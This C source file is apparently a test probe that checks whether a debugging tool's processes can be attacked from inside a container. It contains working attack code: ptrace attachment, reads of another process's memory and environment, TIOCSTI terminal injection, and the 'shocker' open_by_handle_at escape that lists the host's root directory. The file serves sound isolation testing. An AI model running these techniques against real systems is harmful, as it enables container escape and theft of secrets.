/* What a hostile process inside a container tries against the crashcart processes it can
 * see. Static (musl), so it runs in any fixture container. Prints one line per attempt:
 * "<what> ok" or "<what> <errno name>".
 *
 *   probe attack PID   ptrace attach/seize, process_vm_readv, and open /proc/PID/{environ,
 *                      mem, fd, fd/0..2, root/, cwd/, maps, ns/mnt}; a directory that
 *                      opens is listed ("list:fd 3 entries": names only)
 *   probe tty          open /dev/tty (the controlling terminal) and try TIOCSTI on it
 *   probe fds          readlink of every fd of this process
 *   probe shocker PATH open_by_handle_at the root inode (2) of the filesystem of PATH (an
 *                      ext4 bind mount of the host, e.g. /etc/hosts in a docker container):
 *                      with CAP_DAC_READ_SEARCH that reads the host's root directory
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case ENXIO: return "ENXIO";
    case EIO: return "EIO";
    case EINVAL: return "EINVAL";
    default: return strerror(e);
    }
}

static void report(const char *what, int ok) {
    if (ok)
        printf("%s ok\n", what);
    else
        printf("%s %s\n", what, ename(errno));
    fflush(stdout);
}

static void try_open(int pid, const char *rel, int flags) {
    char path[256], what[300];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, rel);
    snprintf(what, sizeof what, "open:%s", rel);
    int fd = open(path, flags);
    if (fd < 0) {
        report(what, 0);
        return;
    }
    if (flags & O_DIRECTORY) {
        /* Opening /proc/PID/fd can succeed where listing it is refused: count entries. */
        DIR *d = fdopendir(fd);
        int n = 0;
        struct dirent *e;
        errno = 0;
        while (d && (e = readdir(d)))
            n += e->d_name[0] != '.';
        snprintf(what, sizeof what, "list:%s", rel);
        if (errno) {
            report(what, 0);
        } else {
            printf("%s %d entries\n", what, n);
            fflush(stdout);
        }
        if (d)
            closedir(d);
        return;
    }
    char buf[64];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) {
        snprintf(what, sizeof what, "read:%s", rel);
        report(what, 0);
    } else {
        report(what, 1);
    }
    close(fd);
}

static void try_readlink(int pid, const char *rel) {
    char path[256], what[300], buf[512];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, rel);
    snprintf(what, sizeof what, "readlink:%s", rel);
    ssize_t n = readlink(path, buf, sizeof buf - 1);
    if (n < 0) {
        report(what, 0);
        return;
    }
    buf[n] = 0;
    printf("%s ok %s\n", what, buf);
    fflush(stdout);
}

static int attack(int pid) {
    long r = ptrace(PTRACE_ATTACH, pid, 0, 0);
    report("ptrace-attach", r == 0);
    if (r == 0) {
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    r = ptrace(PTRACE_SEIZE, pid, 0, 0);
    report("ptrace-seize", r == 0);
    if (r == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
    char buf[16];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    r = process_vm_readv(pid, &local, 1, &remote, 1, 0);
    report("process_vm_readv", r >= 0 || errno == EFAULT);
    try_open(pid, "environ", O_RDONLY);
    try_open(pid, "mem", O_RDWR);
    try_open(pid, "fd", O_RDONLY | O_DIRECTORY);
    try_open(pid, "fd/0", O_RDONLY);
    try_open(pid, "fd/1", O_WRONLY);
    try_open(pid, "fd/2", O_WRONLY);
    try_open(pid, "root/", O_RDONLY | O_DIRECTORY);
    try_open(pid, "cwd/", O_RDONLY | O_DIRECTORY);
    try_open(pid, "maps", O_RDONLY);
    try_open(pid, "ns/mnt", O_RDONLY);
    try_readlink(pid, "root");
    try_readlink(pid, "cwd");
    try_readlink(pid, "exe");
    try_readlink(pid, "fd/0");
    return 0;
}

static int tty(void) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    report("open:/dev/tty", fd >= 0);
    if (fd >= 0) {
        char c = '#';
        report("TIOCSTI", ioctl(fd, TIOCSTI, &c) == 0);
    }
    return 0;
}

static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
        report("opendir:/proc/self/fd", 0);
        return 1;
    }
    int self = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == self)
            continue;
        char path[300], buf[512];
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, buf, sizeof buf - 1);
        buf[n < 0 ? 0 : n] = 0;
        printf("fd %s %s\n", e->d_name, buf);
    }
    closedir(d);
    return 0;
}

static int shocker(const char *path) {
    struct {
        struct file_handle h;
        unsigned char bytes[128];
    } fh;
    int mount_id;
    fh.h.handle_bytes = sizeof fh.bytes;
    report("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, &fh.h, &mount_id, 0) == 0);
    int mfd = open(path, O_RDONLY);
    fh.h.handle_type = 1; /* FILEID_INO32_GEN: u32 inode, u32 generation */
    fh.h.handle_bytes = 8;
    unsigned int ino_gen[2] = {2, 0};
    memcpy(fh.h.f_handle, ino_gen, sizeof ino_gen);
    int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
    report("open_by_handle_at", fd >= 0);
    if (fd >= 0) {
        DIR *d = fdopendir(fd);
        struct dirent *e;
        while (d && (e = readdir(d)))
            printf("host-root-entry %s\n", e->d_name);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "attack") == 0)
        return attack(atoi(argv[2]));
    if (argc == 2 && strcmp(argv[1], "tty") == 0)
        return tty();
    if (argc == 2 && strcmp(argv[1], "fds") == 0)
        return fds();
    if (argc == 3 && strcmp(argv[1], "shocker") == 0)
        return shocker(argv[2]);
    fprintf(stderr, "usage: probe attack PID | tty | fds | shocker PATH\n");
    return 2;
}
